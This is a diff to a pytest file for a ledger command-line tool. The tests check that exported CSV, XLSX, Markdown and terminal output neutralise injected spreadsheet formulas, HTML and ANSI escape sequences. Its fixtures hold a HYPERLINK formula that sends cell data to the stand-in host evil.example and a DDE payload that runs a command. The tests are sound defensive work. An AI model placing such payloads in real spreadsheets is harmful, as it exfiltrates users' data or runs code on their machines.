@@ -19,8 +19,8 @@ import itertools
 import json
 import os
 import re
-import sqlite3
 import subprocess
+from collections.abc import Callable
 from dataclasses import dataclass
 from pathlib import Path
 from typing import Any
@@ -28,8 +28,16 @@ from typing import Any
 import pytest
 from markdown_it import MarkdownIt
 from openpyxl import load_workbook
-from tests.conftest import RunKs, assert_refused, ks_executable
-from tests.test_e2e import copy_ledger
+from tests.conftest import (
+    RunKs,
+    assert_refused,
+    copy_ledger,
+    direct,
+    drop_trigger,
+    every_trigger,
+    ks_executable,
+    ledger_digest,
+)
 
 FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
 DDE = "=cmd|' /C calc'!A0"
@@ -59,10 +67,15 @@ class Hostile:
 
 
 @pytest.fixture(scope="module")
-def hostile_template(story_ledger: Path, tmp_path_factory: pytest.TempPathFactory) -> Hostile:
+def hostile_template(
+    story_source: Path,
+    new_ledger: Callable[[Path, str], Path],
+    tmp_path_factory: pytest.TempPathFactory,
+) -> Hostile:
     """The story, and a Jatim agency named with an <img> that signed, ended and was
     evaluated under hostile words; one KSB with a term ending soon, one idle since January."""
-    path = copy_ledger(story_ledger, tmp_path_factory.mktemp("hostile") / "hostile.sqlite")
+    place = new_ledger(tmp_path_factory.mktemp("hostile"), "hostile.sqlite")
+    path = copy_ledger(story_source, place)
 
     def run_ks(*args: str) -> subprocess.CompletedProcess[str]:
         env = {**os.environ, "KS_DB": str(path), "KS_BY": "tester", "NO_COLOR": "1"}
@@ -119,6 +132,7 @@ def assert_no_formula(rows: list[list[str]]) -> None:
             assert not cell.startswith(FORMULA_STARTS), (cell, row)
 
 
+@pytest.mark.postgresql_pending("ks report: helper pgverify")
 def test_csv_outputs_quote_formulas_as_text(hostile: Hostile, run_ks: RunKs) -> None:
     listed = csv_cells(ok(run_ks("list", "--format", "csv", *AS_OF)))
     pending = csv_cells(ok(run_ks("pending", "--format", "csv", *AS_OF)))
@@ -144,6 +158,7 @@ def test_numbers_are_not_text_and_keep_their_sign() -> None:
     assert out.getvalue().splitlines()[1] == "-3,'-3"
 
 
+@pytest.mark.postgresql_pending("ks report: helper pgverify")
 def test_xlsx_report_has_only_string_cells_never_formulas(
     hostile: Hostile, run_ks: RunKs, tmp_path: Path
 ) -> None:
@@ -165,6 +180,7 @@ def test_xlsx_report_has_only_string_cells_never_formulas(
         assert (sheet, hostile.keys[title], title) in pairs, (sheet, title)
 
 
+@pytest.mark.postgresql_pending("ks report: helper pgverify")
 def test_json_and_show_give_the_stored_values_back_exactly(hostile: Hostile, run_ks: RunKs) -> None:
     listed = json.loads(ok(run_ks("list", "--format", "json", *AS_OF)))
     titles = {row["key"]: row["title"] for row in listed}
@@ -182,6 +198,7 @@ def test_json_and_show_give_the_stored_values_back_exactly(hostile: Hostile, run
 # --- 6. Markdown ------------------------------------------------------------------------------
 
 
+@pytest.mark.postgresql_pending("ks report: helper pgverify")
 def test_markdown_report_renders_every_value_as_plain_text(hostile: Hostile, run_ks: RunKs) -> None:
     text = ok(run_ks("report", "--format", "md", *AS_OF, *SINCE))
     parser = MarkdownIt("commonmark").enable("table")
@@ -227,14 +244,12 @@ ESC_HEAD = "\x1b[2J" + "0" * 60
 
 
 @pytest.fixture
-def edited(story_ledger: Path, ledger: Path) -> Path:
+def edited(story_copy: Path) -> Path:
     """The story as someone with sqlite3 left it: triggers dropped, ESC sequences written in."""
-    copy_ledger(story_ledger, ledger)
-    conn = sqlite3.connect(ledger)
-    try:
-        triggers = conn.execute("SELECT name FROM sqlite_master WHERE type = 'trigger'")
-        for (name,) in triggers.fetchall():
-            conn.execute(f'DROP TRIGGER "{name}"')
+    ledger = story_copy
+    with direct(ledger) as conn:
+        for name, table in every_trigger(conn):
+            conn.execute(drop_trigger(f'"{name}"', table, ledger))
         conn.execute("UPDATE agreement SET title = ? WHERE key = 'PKS-2022-0005'", (ESC_TITLE,))
         conn.execute("UPDATE entry SET recorded_by = ? WHERE seq = 3", (ESC_BY,))
         conn.execute(
@@ -244,9 +259,6 @@ def edited(story_ledger: Path, ledger: Path) -> Path:
         )
         conn.execute("UPDATE entry SET hash = ? WHERE seq = (SELECT max(seq) FROM entry)",
                      (ESC_HEAD,))  # fmt: skip
-        conn.commit()
-    finally:
-        conn.close()
     return ledger
 
 
@@ -258,6 +270,7 @@ def assert_visible(text: str, columns: int | None = None) -> None:
         assert not RAW_CONTROL.search(line.replace("\t", "") if columns else line), repr(line)
 
 
+@pytest.mark.postgresql_pending("ks check, ks verify, ks report: helper pgverify")
 def test_a_hand_edited_ledger_reaches_no_terminal_raw(edited: Path, run_ks: RunKs) -> None:
     listed = run_ks("list", *AS_OF)
     assert_visible(ok(listed), columns=5)
@@ -300,11 +313,11 @@ def test_a_hand_edited_ledger_still_gives_its_values_back_exactly_in_json(
 
 
 def test_a_refusal_quoting_ledger_text_is_one_visible_line(edited: Path, run_ks: RunKs) -> None:
-    before = edited.read_bytes()
+    before = ledger_digest(edited)
     result = run_ks("sign", "PKS-2022-0005", "--party", "kaltim", "--date", "2022-09-01")
     assert_refused(result, "not a party to PKS-2022-0005", "\\x1b[8m")
     assert not RAW_CONTROL.search(result.stderr.rstrip("\n"))
-    assert edited.read_bytes() == before
+    assert ledger_digest(edited) == before
 
 
 def run_on_terminal(monkeypatch: pytest.MonkeyPatch, *argv: str) -> str:
